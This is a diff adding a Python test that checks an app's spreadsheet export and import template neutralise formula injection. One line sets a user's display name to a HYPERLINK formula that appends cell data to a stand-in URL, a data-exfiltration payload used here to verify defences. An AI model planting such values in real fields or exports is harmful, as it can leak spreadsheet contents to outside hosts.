@@ -201,3 +201,23 @@ def test_excel_rows_with_unknown_officer_or_category_refuse_the_whole_file(
         select(AuditLog).where(AuditLog.action == "casestudies.casefile.import_refused")
     )
     assert audit is not None and "罚着玩" in audit.reason
+
+
+def test_pool_export_and_template_go_through_the_formula_safe_writer(app, demo_people):
+    from openpyxl import load_workbook
+
+    from casestudies.casefiles import importers, pool
+    from lianbing.host import set_backbone
+
+    officer = user("officer_441402_1")
+    officer.display_name = '=HYPERLINK("http://x"&A2,"x")'
+    set_backbone(officer, ["review"], actor_id=None)
+    db.session.flush()
+    sheet = load_workbook(io.BytesIO(pool.export_pool())).active
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert all(c.data_type != "f" for c in cells)
+    assert officer.display_name in [c.value for c in cells]
+    header = next(
+        load_workbook(io.BytesIO(importers.template())).active.iter_rows(values_only=True)
+    )
+    assert list(header) == importers.HEADER
